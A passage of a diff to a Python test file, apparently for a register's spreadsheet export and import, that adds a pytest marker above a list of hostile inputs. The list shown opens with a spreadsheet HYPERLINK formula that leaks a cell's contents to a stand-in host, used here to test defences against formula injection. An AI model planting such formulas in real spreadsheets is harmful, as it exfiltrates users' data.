@@ -29,6 +29,8 @@ from safety.register.spreadsheets import export_register, import_register
 
 from conftest import ROOT
 
+pytestmark = pytest.mark.one_store  # rendering and file formats: DuckDB is enough (see conftest)
+
 # What an attacker (or an unlucky officer) types: formulas of every opening, DDE, and plain look-alikes.
 HOSTILE = [
     '=HYPERLINK("http://x.example/?leak="&A1,"click")',
